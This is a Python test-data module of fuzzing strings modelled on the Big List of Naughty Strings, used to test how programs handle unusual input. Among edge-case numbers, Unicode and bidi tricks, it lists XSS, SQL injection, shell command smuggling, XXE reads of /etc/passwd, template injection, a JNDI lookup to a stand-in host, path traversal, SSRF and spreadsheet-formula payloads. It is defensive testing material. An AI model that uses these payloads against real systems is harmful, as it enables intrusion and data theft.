"""
Strings that break programs: words that languages reserve, numbers that are none, odd Unicode, and what attackers write.

The kinds are those of the well-known Big List of Naughty Strings; the strings are our own. `STRINGS` holds each once.
"""

import itertools

_RESERVED = (
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "none", "true", "True", "TRUE", "false",
    "False", "FALSE", "yes", "no", "on", "off", "y", "N", "~", "NaN", "nan", "Infinity", "-Infinity", "+inf", "INF",
    "hasOwnProperty", "constructor", "prototype", "__proto__", "__class__", "__dict__", "toString", "then", "this",
    "new", "default", "[object Object]", "function () {}", "\\", "\\\\", "DROP", "select", "void 0", "N/A", "#N/A",
    "=", "==", "*", "%", "_", "-", "--", "---", ".", "..", "...", "/", "//", "?", "#", "@", "&", "|", ";", ",", ",,",
)  # fmt: skip
_NUMBERS = (
    "0", "-0", "+0", "1", "-1", "00", "007", "08", "0x0", "0xffffffff", "0xFFFFFFFFFFFFFFFF", "0b1", "0o7", "1e3",
    "1E-3",
    "1e309", "-1e309", "1e-400", "2.2250738585072011e-308", "4.9E-324", "0.1", ".1", "1.", "1..2", "1,5", "1,000.5",
    "1.000,5", "1 000", "1'000", "1_000", "1/2", "1/0", "0/0", "2147483647", "2147483648", "-2147483649",
    "4294967296", "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
    "18446744073709551616", "9" * 100, "1" + "0" * 400, "$1.00", "-$1.00", "€1,00", "1%", "1e", "--1", "+-1", "1-1",
    "1.0.0", "01.0.0", "1.0.0.0", "v1.0.0", "1.0.0-", "1.0.0+", "1.0.0-01", "1.0.0-rc.1", "1.0.0+build.5", "٣",
    "３", "Ⅳ",
    "½", "²", "1970-01-01", "2026-02-30", "9999-12-31T23:59:60Z", "0000-00-00", "12:60",
)  # fmt: skip
_QUOTES = (
    "'", '"', "''", '""', "`", "'\"'", "\"'\"'", "\\'", '\\"', "«»", "„“", "‘’", "’", "<", ">", "<>", "</", "/>",
    "<!--",
    "-->", "<![CDATA[", "]]>", "&amp;", "&lt;", "&#60;", "&#x3c;", "&#0;", "&nbsp;", "&bogus;", "&", "&&", "<<", ">>",
    "{}", "[]", "()", "{{}}", "${}", "#{}", "<%%>", "{%%}", "!@#$%^&*()`~", "<>?:\"{}|_+", ",./;'[]\\-=",
)  # fmt: skip
_UNICODE = (
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠", "ÅÍÎÏ˝ÓÔÒÚ☃", "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ",
    "Ελληνικά", "ไทย", "हिन्दी", "ქართული", "አማርኛ", "日本語の文字", "中文字符", "繁體字", "한국어", "ﾊﾝｶｸ",
    "ＦＵＬＬＷＩＤＴＨ",
    "𠀀𠀁𪛖", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𝒮𝒸𝓇𝒾𝓅𝓉", "𝟘𝟙𝟚", "ﬀﬁﬂﬃ", "ß", "ẞ", "ſ", "İ", "ı", "K", "Å", "é", "e\u0301",
    "ñ", "n\u0303", "Ǆǅǆ", "ﷺ", "﷽", "꙰", "\u0345", "\u0301", "\u0301\u0302\u0303", "\u20dd", "a\u0338", "⁰⁴⁵₀₁₂",
    "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U000e0001\U000e0041", "\ue000", "\ufdd0", "\u2060", "\u200b",
    "\u200c", "\u200d", "a\u200bb", "\u00ad", "so\u00adft", "\u00a0", "\u3000", "\u2003", "\u1680", "\u180e",
    "\u205f",
    "\u034f", "\u115f", "\u3164", "\ufeff", "\ufeffx", "x\ufeff", "␀", "␡", "␣", "\u0600", "\U0001d173",
)  # fmt: skip
_ZALGO = tuple(
    "".join(letter + "".join(chr(0x300 + (place * 7 + mark * 11) % 0x70) for mark in range(height)) for place, letter
            in enumerate(word))
    for word, height in (("model", 1), ("He comes", 3), ("zalgo", 8), ("invoke", 20), ("x", 60))
)  # fmt: skip
_DIRECTIONS = (
    "שלום", "مرحبا", "שלוםhelloمرحبا", "בְּרֵאשִׁית", "مُنَاقَشَةُ", "العربية 123 (abc)", "\u202etxt.exe", "\u202dabc",
    "\u202aabc",
    "\u202babc", "\u202c", "\u2066isolate\u2069", "\u2067abc", "\u2068abc", "\u200eabc", "\u200fabc", "\u061cabc",
    "invoice\u202efdp.bin", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */", "a\u2028b", "a\u2029b",
)  # fmt: skip
_EMOJI = (
    "😀", "😍", "👩🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🏴‍☠️", "🇺🇸", "🇺🇸🇷🇺🇸", "🇦", "❤️", "❤", "☺️", "1️⃣", "🔟", "✋🏿", "👾 🙇 💁",
    "🐵 🙈 🙉 🙊",
    "🧑🏻‍🤝‍🧑🏿", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "(╯°□°）╯︵ ┻━┻", "( ͡° ͜ʖ ͡°)", "ヽ༼ຈل͜ຈ༽ﾉ", "ಠ_ಠ", "¯\\_(ツ)_/¯", "🫠", "💩" * 50, "👍🏽" * 20,
)  # fmt: skip
_UPSIDE_DOWN = (
    "ɯnsdı ɯǝɹo˥",
    "00˙Ɩ$-",
    "ꟻlip",
    "ᴛʜᴇ ǫᴜɪᴄᴋ",
    "⒯⒣⒠",
    "ⓣⓗⓔ",
    "🅃🄷🄴",
    "🆃🅷🅴",
    "t̶h̶e̶",
    "𝖙𝖍𝖊",
    "𝕥𝕙𝕖",
    "𝚝𝚑𝚎",
    "ｔｈｅ",
)
_BLANKS = (
    " ", "  ", "\t", "\n", "\r", "\r\n", "\n\n\n", " lead", "trail ", "a  b", "a\tb", "a\nb", "a\r\nb", "a\rb",
    "\x0b",
    "\x0c", "a\x85b", "\x00", "a\x00b", "\x01", "\x07", "\x08", "\x1b", "\x1f", "\x7f", "\x80", "\x9b", "\x9f",
    "\ud800", "a\udfff", "\udc00\ud800",
)  # fmt: skip

_CALLS = ("alert(1)", "alert`1`", "window.naughty=1", "confirm(1)", "prompt(1)")
_MARKUP = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt>{}</sCrIpT>", "<script >{}</script >",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>", "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>",
    "＜script＞{}＜/script＞",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src="x" onerror="{}">', "<img/src=x/onerror={}>",
    "<IMG SRC=x ONERROR={}//", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>", "<body onload={}>", "<details open ontoggle={}>",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<marquee onstart={}>", "<iframe src=\"javascript:{}\">",
    "<iframe srcdoc=\"<script>{}</script>\">", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<a href=\"javascript:{}\">x</a>", "<a href=' javascript:{}'>x</a>",
    "<form action=\"javascript:{}\"><input type=submit>",
    "<button formaction=\"javascript:{}\">x</button>", "<math href=\"javascript:{}\">x</math>",
    "<base href=\"javascript:{}//\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=stylesheet href=\"javascript:{}\">", "<style>@import 'javascript:{}';</style>",
    "<div style=\"background:url(javascript:{})\">", "<div style=\"width:expression({})\">",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<textarea></textarea><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</script><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "\" autofocus onfocus={} x=\"", "' autofocus onfocus={} x='",
    "` onmouseover={} x=`", "\" onmouseover=\"{}", "';{};'", "\";{};\"", "\\\";{};//", "</pre><img src=x onerror={}>",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "javascript&colon;{}",
    "&#106;avascript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{}",
    "http://x/\"onmouseover=\"{}", "https://x/<script>{}</script>", "[x](javascript:{})", "![x](x\"onerror=\"{})",
    "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{}\"/>", "<x onclick={}>x</x>",
    "<x contenteditable onblur={}>x",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print(7*7)%}", "{{config}}", "{{self.__init__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endblock %}",
    "{#",
    "@(7*7)", "[[${7*7}]]", "*{7*7}", "${{7*7}}", "{{constructor.constructor('alert(1)')()}}", "$eval('1+1')",
    "{0}", "{name}", "{self.__dict__}", "{0.__class__}", "%(name)s", "$name", "${jndi:ldap://x.example/a}",
)  # fmt: skip
_SQL = (
    "1;DROP TABLE models", "1'; DROP TABLE models-- ", "' OR 1=1 -- ", "' OR '1'='1", "\" OR \"\"=\"",
    "') OR ('1'='1",
    "admin'--", "admin'/*", "' UNION SELECT null,null--", "'; SELECT pg_sleep(9);--",
    "1 AND 1=CAST((SELECT 1) AS int)",
    "\\'; DROP TABLE x; --", "$$; DROP TABLE x; $$", "E'\\x27'", "' || (SELECT 1) || '", "%' ESCAPE '!", "a%_b",
    "\\%",
    "/* comment */", "-- comment", "'; VACUUM; --", "1' AND '1'='2", "x' AND email IS NULL; --", "MATCH", "NEAR(a b)",
    "a AND", "a OR", "NOT", "a*", "^a", "col:a", "\"unclosed", "(unclosed", "a NEAR/", "{a b}:c",
    "'); ATTACH 'x' AS y; --",
)  # fmt: skip
_SERVER = (
    "; ls -la", "| cat /etc/passwd", "`id`", "$(id)", "&& id", "|| id", "$HOME", "$ENV{'HOME'}", "%d", "%s%s%s%s%s",
    "%n%n%n",
    "%x%x", "%*.*s", "%@", "%1$s", "<?php phpinfo(); ?>", "<!--#exec cmd=\"id\"-->", "eval(\"1\")",
    "__import__('os')",
    "System(\"ls\")", "Kernel.exit(1)", "() { 0; }; touch x", "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "!!python/object/apply:os.system ['id']", "c__builtin__\neval\n", "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==",
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://x\",\"y\")", "\t=1+1", "'=1+1",
    "\r=1+1",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "\\\\server\\share",
    "file:///etc/passwd",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "..;/", "/dev/null", "/proc/self/environ", "~root",
    "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "con.txt", "nul.tar.gz", "COM¹", "CONIN$", "clock$", "a:b", "a|b",
    "a?b",
    "a*b", "name.", "name ", ".hidden", "-rf", "--help", "a//b", "a/./b", "a/../b", "x" * 300, "desktop.ini",
    "Thumbs.db",
)  # fmt: skip
_TERMINAL = (
    "Roses are \x1b[0;31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x1b[H\x1b[J",
    "\x1b]8;;http://x\x07y\x1b]8;;\x07",
    "\x9b31m", "But now...\x1b[20C for my trick", "\x08\x08\x08", "the quic\b\b\bk", "\x1bc", "\x07bell",
    "line\rover",
)  # fmt: skip
_MAIL_AND_WEB = (
    "a@b.co", "a@b", "@b.co", "a@@b.co", "\"a b\"@c.co", "a@[127.0.0.1]", "<a@b.co>", "a@b.co\r\nBcc: c@d.co",
    "mailto:a@b.co",
    "a@xn--80ak6aa92e.com", "ä@b.co", "a@bü.de", "http://", "http:///x", "https://a", "http://a b",
    "http://[::1]:99999",
    "http://127.0.0.1:22", "http://169.254.169.254/latest/meta-data", "http://a@b@c", "//x.example", "ftp://x",
    "http://x\\y",
    "http://x#<script>", "HTTP://X", "http://ex.example/?a=1&b=<x>&c=\"", "https://xn--/", "https://☃.net",
    "http://0x7f.1/",
)  # fmt: skip
_INNOCENT = (
    "Scunthorpe General Hospital", "Penistone Community Church", "Lightwater Country Park", "Cockburn",
    "Dick Van Dyke",
    "medieval erection of parapets", "Linda Callahan", "Craig Cockburn, Software Specialist", "evaluate", "mocha",
    "Bobby'; Tables", "Null", "Jennifer Null", "O'Brien", "D'Arcy–Smith", "van der Berg", "X Æ A-12", "François",
    "Nguyễn",
    "If you're reading this, you've been in a coma", "😀 model №1 «best» — 50 % off!", "C++", "C#", "R&D", "AT&T",
    "a < b > c",
)  # fmt: skip

_SCRIPTS = tuple(
    form.replace("{}", call) for form, call in itertools.chain(
        zip(_MARKUP, itertools.cycle(_CALLS)), zip(_MARKUP, itertools.cycle(_CALLS[2:3])),
    )
)  # fmt: skip

#: Markup and addresses that would run a script where a page let them; `window.naughty` is what they leave.
SCRIPTS: tuple[str, ...] = tuple(dict.fromkeys(_SCRIPTS))

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        itertools.chain(
            _RESERVED, _NUMBERS, _QUOTES, _UNICODE, _ZALGO, _DIRECTIONS, _EMOJI, _UPSIDE_DOWN, _BLANKS, SCRIPTS,
            _TEMPLATES,
            _SQL, _SERVER, _PATHS, _TERMINAL, _MAIL_AND_WEB, _INNOCENT,
        )
    )
)  # fmt: skip
